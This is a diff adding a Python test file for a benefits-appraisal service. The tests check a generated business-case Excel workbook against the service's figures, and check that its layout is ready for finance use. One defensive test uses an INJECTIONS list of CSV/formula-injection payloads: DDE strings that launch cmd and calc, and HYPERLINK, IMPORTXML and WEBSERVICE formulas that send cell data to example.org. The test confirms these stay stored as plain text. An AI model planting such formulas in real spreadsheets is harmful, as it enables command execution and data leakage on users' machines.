@@ -1,0 +1,130 @@
+"""The business-case workbook, recalculated by LibreOffice, agrees with the service to the penny."""
+
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from sqlmodel import Session, select
+
+from benefits import appraisal, finance, switching
+from benefits.appraisal import penny
+from benefits.example import load_example
+from benefits.models import Initiative
+from benefits.workbooks.business_case import business_case_workbook
+from tests.support.factories import make_benefit, make_initiative
+from tests.support.spreadsheet import recalculate
+
+AS_OF = date(2026, 11, 23)
+INJECTIONS = [
+    "=1+1",
+    '=HYPERLINK("http://example.org/?"&A1,"Click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    '=IMPORTXML(CONCAT("http://example.org/?v=",A1),"//a")',
+    '=WEBSERVICE("http://example.org/")',
+    'DDE("cmd";"/C calc";"!A0")',
+]
+
+
+def _key_figures(path: Path) -> dict[str, object]:
+    sheet = load_workbook(path, data_only=True)["Summary"]
+    return {str(sheet.cell(row, 1).value): sheet.cell(row, 2).value for row in range(13, 22)}
+
+
+def _pennies(value: object) -> Decimal:
+    return penny(Decimal(repr(value)))
+
+
+@pytest.fixture
+def example(session: Session) -> int:
+    load_example(session=session)
+    initiative = session.exec(select(Initiative)).one()
+    assert initiative.id is not None
+    return initiative.id
+
+
+def test_the_example_workbook_agrees_with_the_service(
+    session: Session, example: int, libreoffice: str, tmp_path: Path
+) -> None:
+    written = tmp_path / "business-case.xlsx"
+    written.write_bytes(business_case_workbook(session=session, initiative_id=example, as_of=AS_OF))
+    figures = _key_figures(recalculate(written))
+    service = appraisal.appraise(session=session, initiative_id=example)
+    assert _pennies(figures["Economic net present value"]) == service.economic.npv
+    assert figures["Benefit-cost ratio"] == pytest.approx(service.economic.bcr, rel=1e-12)
+    assert _pennies(figures["Financial net present value"]) == service.financial.npv
+    assert figures["Internal rate of return"] == pytest.approx(service.financial.irr, rel=1e-9)
+    assert figures["Payback period"] == service.financial.payback_period
+    assert figures["Discounted payback period"] == service.financial.discounted_payback_period
+
+    summary = finance.cash_capacity_summary(session=session, initiative_id=example, today=AS_OF)
+    sheet = load_workbook(recalculate(written), data_only=True)["Cash v capacity"]
+    by_year = {sheet.cell(row, 1).value: [sheet.cell(row, c).value for c in range(2, 7)] for row in range(5, 10)}
+    assert by_year == {
+        year.year: [year.cash, year.capacity, year.undecided, year.cash_confirmed, year.cash_at_risk]
+        for year in summary.years
+    }
+    assert _pennies(figures["Cash at risk"]) == sum(year.cash_at_risk for year in summary.years) > 0
+    assert _pennies(figures["Cash-releasing benefits (all years)"]) == sum(year.cash for year in summary.years)
+
+
+def test_changing_an_assumption_moves_the_workbook_as_the_service_does(
+    session: Session, example: int, libreoffice: str, tmp_path: Path
+) -> None:
+    written = tmp_path / "business-case.xlsx"
+    written.write_bytes(business_case_workbook(session=session, initiative_id=example, as_of=AS_OF))
+    book = load_workbook(written)
+    assumptions = book["Assumptions"]
+    row = next(r for r in range(5, 40) if assumptions.cell(r, 1).value == "phone_transactions_moved")
+    low = assumptions.cell(row, 5).value
+    assumptions.cell(row, 4).value = low
+    book.save(written)
+    figures = _key_figures(recalculate(written))
+    service = switching.switching_values(session=session, initiative_id=example)
+    moved = next(row for row in service.assumptions if row.assumption == "phone_transactions_moved")
+    assert moved.npv_at_low is not None
+    assert _pennies(figures["Economic net present value"]) == penny(moved.npv_at_low)
+    assert _pennies(figures["Economic net present value"]) != service.npv
+
+
+def test_text_from_users_is_always_text(session: Session, libreoffice: str, tmp_path: Path) -> None:
+    initiative = make_initiative(session, name="=1+1 initiative")
+    created = [
+        make_benefit(session, initiative=initiative, title=payload, owner=payload, cost_centre="CC1")
+        for payload in INJECTIONS
+    ]
+    stored_titles = [benefit.title for benefit in created]  # as the register keeps them (trimmed)
+    assert stored_titles[6] == "=1+1"
+    written = tmp_path / "injection.xlsx"
+    written.write_bytes(business_case_workbook(session=session, initiative_id=initiative.id or 0, as_of=AS_OF))
+    stored = load_workbook(written)["Benefits"]
+    titles = [stored.cell(row, 2) for row in range(5, 5 + len(INJECTIONS))]
+    assert [cell.value for cell in titles] == stored_titles
+    assert {cell.data_type for cell in titles} == {"s"}
+    recalculated = load_workbook(recalculate(written), data_only=True)
+    assert [recalculated["Benefits"].cell(row, 2).value for row in range(5, 5 + len(INJECTIONS))] == stored_titles
+    assert [recalculated["Benefits"].cell(row, 7).value for row in range(5, 5 + len(INJECTIONS))] == stored_titles
+    assert recalculated["Summary"]["B3"].value == "=1+1 initiative"
+
+
+def test_the_workbook_is_laid_out_for_finance(session: Session, example: int) -> None:
+    from io import BytesIO
+
+    book = load_workbook(BytesIO(business_case_workbook(session=session, initiative_id=example, as_of=AS_OF)))
+    assert book.sheetnames == ["Summary", "Assumptions", "Model", "Benefits", "Costs", "Appraisal", "Cash v capacity",
+                               "Pipeline", "Notes"]  # fmt: skip
+    assert {"phone_calls_a_year", "capacity_value", "as_of"} <= set(book.defined_names)
+    benefits = book["Benefits"]
+    assert benefits.freeze_panes == "C5" and benefits.auto_filter.ref.startswith("A4:")
+    assert {str(validation.sqref) for validation in benefits.data_validations.dataValidation} >= {"C5:C14", "E5:E14"}
+    assert benefits.print_title_rows == "$3:$4" and benefits.page_setup.orientation == "landscape"
+    model = book["Model"]
+    capacity = next(r for r in range(5, 30) if model.cell(r, 1).value == "capacity_value")
+    assert model.cell(capacity, 4).value.startswith("=") and model.cell(capacity, 4).data_type == "f"
+    assert book["Summary"]._charts, "the summary carries a chart of benefits and costs by year"
+    assert book["Appraisal"]["B15"].number_format == "0.0000"
